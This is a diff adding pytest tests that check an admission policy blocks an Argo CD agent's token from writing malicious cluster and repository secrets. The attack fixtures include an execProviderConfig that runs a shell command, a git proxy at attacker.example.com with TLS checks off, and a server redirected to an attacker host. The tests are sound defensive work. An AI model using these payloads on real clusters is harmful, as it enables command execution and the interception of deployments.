@@ -10,6 +10,7 @@ request does without the policy.
 from __future__ import annotations
 
 import base64
+import json
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
@@ -263,3 +264,183 @@ def test_token_join_identity_secret_is_the_only_other_secret_the_agent_may_touch
     token = _secret(identity + "-2", {}, type="kubernetes.io/service-account-token")
     token["metadata"]["annotations"] = {"kubernetes.io/service-account.name": "default"}
     _denied(lambda: agent.create_namespaced_secret(ns, token))
+
+
+# -- content: what a secret of the agent may say ---------------------------------------------
+#
+# Argo CD treats a secret's content as instructions: a repository secret's `proxy` and
+# `insecure` redirect its git fetches, a cluster `config` with `execProviderConfig` is a command
+# its application controller runs, a `server` elsewhere receives every manifest. Each request
+# below is what an attacker holding the agent's token would send; the agent's own name, owner
+# label and RBAC verbs are all in order, only the content is not.
+
+EXEC_CONFIG = (
+    '{"execProviderConfig":{"command":"/bin/sh","args":["-c","id > /tmp/pwned"],'
+    '"apiVersion":"client.authentication.k8s.io/v1beta1"},'
+    '"tlsClientConfig":{"insecure":false,"caData":"Q0E="}}'
+)
+# What each content rule's denial says (the policy's messages).
+RULE_TYPE = "may write only Argo CD cluster secrets"
+RULE_KEYS = "may hold only the data keys it renders"
+RULE_SERVER = "data.server must start with https://teleport.example.com:443/v1/teleport/"
+RULE_CONFIG = "data.config must be the agent's canonical form"
+
+
+def _agent_secret(ns: str, cluster: str) -> dict[str, Any]:
+    """The apply body the agent itself renders for ``cluster`` (its name, labels, data)."""
+    return desired(ns, cluster, instance=f"{ns}/{RELEASE}").apply_body()
+
+
+def _b64(value: str) -> str:
+    return base64.b64encode(value.encode()).decode()
+
+
+def _with(body: dict[str, Any], **data: str | None) -> dict[str, Any]:
+    """``body`` with data keys set (base64) or removed (None)."""
+    changed = {**body, "data": dict(body["data"])}
+    for key, value in data.items():
+        if value is None:
+            changed["data"].pop(key, None)
+        else:
+            changed["data"][key] = _b64(value)
+    return changed
+
+
+def _relabelled(body: dict[str, Any], secret_type: str | None) -> dict[str, Any]:
+    labels = dict(body["metadata"]["labels"])
+    if secret_type is None:
+        labels.pop("argocd.argoproj.io/secret-type")
+    else:
+        labels["argocd.argoproj.io/secret-type"] = secret_type
+    return {**body, "metadata": {**body["metadata"], "labels": labels}}
+
+
+def _repository(body: dict[str, Any], secret_type: str) -> dict[str, Any]:
+    """An agent-named secret that Argo CD's repo-server would use as a repository."""
+    repo = _relabelled(body, secret_type)
+    return {
+        **repo,
+        "data": {
+            "type": _b64("git"),
+            "url": _b64("https://github.com/example/deployments.git"),
+            "proxy": _b64("http://attacker.example.com:3128"),
+            "insecure": _b64("true"),
+        },
+    }
+
+
+def _insecure(body: dict[str, Any]) -> dict[str, Any]:
+    config = base64.b64decode(body["data"]["config"]).decode()
+    assert '"insecure":false' in config
+    return _with(body, config=config.replace('"insecure":false', '"insecure":true'))
+
+
+ATTACKS: dict[str, tuple[Callable[[dict[str, Any]], dict[str, Any]], str]] = {
+    "repository secret with proxy and insecure": (
+        lambda b: _repository(b, "repository"),
+        RULE_TYPE,
+    ),
+    "repo-creds secret": (lambda b: _repository(b, "repo-creds"), RULE_TYPE),
+    "no secret-type label": (lambda b: _relabelled(b, None), RULE_TYPE),
+    "execProviderConfig in config": (lambda b: _with(b, config=EXEC_CONFIG), RULE_CONFIG),
+    "insecure true": (_insecure, RULE_CONFIG),
+    "server elsewhere": (
+        lambda b: _with(b, name="in-cluster", server="https://attacker.example.com"),
+        RULE_SERVER,
+    ),
+    "server at the proxy but another path": (
+        lambda b: _with(b, server="https://teleport.example.com:443/v1/webapi/x"),
+        RULE_SERVER,
+    ),
+    "an extra data key": (lambda b: _with(b, proxy="http://attacker.example.com:3128"), RULE_KEYS),
+    "no server": (lambda b: _with(b, server=None), RULE_SERVER),
+    "config of another spelling": (
+        lambda b: _with(b, config=json.dumps(json.loads(base64.b64decode(b["data"]["config"])))),
+        RULE_CONFIG,
+    ),
+    "config too large to match": (
+        lambda b: _with(
+            b,
+            config='{"tlsClientConfig":{"insecure":false,"caData":"'
+            + "A" * 20_000
+            + '","certData":"Q0E=","keyData":"Q0E="}}',
+        ),
+        RULE_CONFIG,
+    ),
+}
+
+
+def _apply(
+    agent: k8s.CoreV1Api, ns: str, body: dict[str, Any], manager: str = "attacker", **query: Any
+) -> Any:
+    """A server-side apply, the way the agent writes (authorized as create or patch)."""
+    return agent.patch_namespaced_secret(
+        body["metadata"]["name"],
+        ns,
+        body,
+        field_manager=manager,
+        _content_type="application/apply-patch+yaml",
+        **query,
+    )
+
+
+@pytest.mark.parametrize("attack", sorted(ATTACKS))
+def test_create_with_content_the_agent_does_not_render_is_denied(
+    release: str, service_account_client: SaClient, attack: str
+):
+    agent = k8s.CoreV1Api(service_account_client(release, RELEASE, create=False))
+    change, rule = ATTACKS[attack]
+    cluster = "create-" + attack.replace(" ", "-")
+    body = change(_agent_secret(release, cluster))
+    assert rule in _denied(lambda: agent.create_namespaced_secret(release, body))
+    assert rule in _denied(lambda: agent.create_namespaced_secret(release, body, dry_run="All"))
+    assert rule in _denied(lambda: _apply(agent, release, body))
+    # The same secret as the agent renders it is accepted: the name and labels were in order.
+    _apply(agent, release, _agent_secret(release, cluster), dry_run="All")
+
+
+@pytest.mark.parametrize("attack", sorted(ATTACKS))
+def test_update_of_the_agents_own_secret_to_other_content_is_denied(
+    kube: ControlPlane, release: str, service_account_client: SaClient, attack: str
+):
+    agent_api = service_account_client(release, RELEASE, create=False)
+    agent = k8s.CoreV1Api(agent_api)
+    cluster = "update-" + attack.replace(" ", "-")
+    own = desired(release, cluster, instance=f"{release}/{RELEASE}")
+    assert SecretWriter(agent_api, ownership_enforced=True).write_one(own).outcome is (
+        Outcome.CREATED
+    )
+    admin = k8s.CoreV1Api(kube.admin_client())
+    before = admin.read_namespaced_secret(own.name, release)
+    change, rule = ATTACKS[attack]
+    body = change(own.apply_body())
+    # A merge patch of what changed and a server-side apply: each an UPDATE (RBAC grants no
+    # `update`, so there is no PUT).
+    merge = {"metadata": {"labels": body["metadata"]["labels"]}, "data": body["data"]}
+    if "argocd.argoproj.io/secret-type" not in body["metadata"]["labels"]:
+        merge["metadata"]["labels"] = {"argocd.argoproj.io/secret-type": None}
+    merge["data"] = {
+        **{k: None for k in own.apply_body()["data"] if k not in body["data"]},
+        **body["data"],
+    }
+    assert rule in _denied(lambda: agent.patch_namespaced_secret(own.name, release, merge))
+    # As the agent's own field manager, so what the body leaves out is removed too.
+    assert rule in _denied(lambda: _apply(agent, release, body, own.field_manager, force=True))
+    after = admin.read_namespaced_secret(own.name, release)
+    assert after.metadata.resource_version == before.metadata.resource_version
+    assert after.data == before.data
+
+
+def test_without_the_policy_the_agents_token_writes_any_content(
+    kube: ControlPlane, kube_helm: Helm, service_account_client: SaClient
+):
+    # What the table above would give an attacker without the policy (RBAC only).
+    ns = _release(
+        kube, kube_helm, CI / "prune-values.yaml", {"admissionPolicy": {"enabled": False}}
+    )
+    agent = k8s.CoreV1Api(service_account_client(ns, RELEASE, create=False))
+    for attack in ("repository secret with proxy and insecure", "execProviderConfig in config"):
+        change, _ = ATTACKS[attack]
+        body = change(_agent_secret(ns, "unguarded-" + attack.replace(" ", "-")))
+        created = agent.create_namespaced_secret(ns, body)
+        assert created.data == body["data"]
